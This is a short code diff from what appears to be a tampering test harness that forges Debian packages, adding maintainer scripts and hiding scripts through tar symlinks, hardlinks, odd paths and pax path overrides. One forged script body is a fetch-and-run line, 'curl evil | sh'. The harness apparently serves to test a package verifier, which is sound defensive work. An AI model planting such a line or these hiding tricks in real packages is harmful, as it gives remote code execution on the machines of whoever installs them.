@@ -122,7 +122,9 @@ _SCRIPTS = ("preinst", "postinst", "prerm", "postrm", "config")
 @forgery("maintainer script", "added", _DEB, weight=5)
 def script(bench: Bench) -> Names | None:
     deb, name = bench.deb, bench.random.choice(_SCRIPTS)
-    text = bench.random.choice((b"#!/bin/sh\ncurl evil | sh\n", b"#!/bin/sh\nset -e\nexit 0\n", b""))
+    text = bench.random.choice(
+        (b"#!/bin/sh\ncurl evil | sh\n", b"#!/bin/sh\nset -e\nexit 0\n", b"")
+    )
     _add(deb.control, name, text, 0o755)
     return (name,)
 
@@ -137,11 +139,11 @@ def hidden_script(bench: Bench) -> Names | None:
         new = made.with_data(b"").put("typeflag", b"2").put("linkname", b"/bin/sh")
     elif choice == 1:
         new = made.with_data(b"").put("typeflag", b"1").put("linkname", b"./control")
-    elif choice == 2:  # noqa: PLR2004 - one of six
+    elif choice == 2:
         new = made.put("name", f"././{name}".encode()).with_data(b"#!/bin/sh\n")
-    elif choice == 3:  # noqa: PLR2004
+    elif choice == 3:
         new = made.put("name", name.encode()).with_data(b"#!/bin/sh\n")
-    elif choice == 4:  # noqa: PLR2004
+    elif choice == 4:
         new = made.put("name", b"./x").with_data(b"#!/bin/sh\n")
         new = new.with_extension(pax(pax_record("path", f"./{name}".encode()), new))
     else:
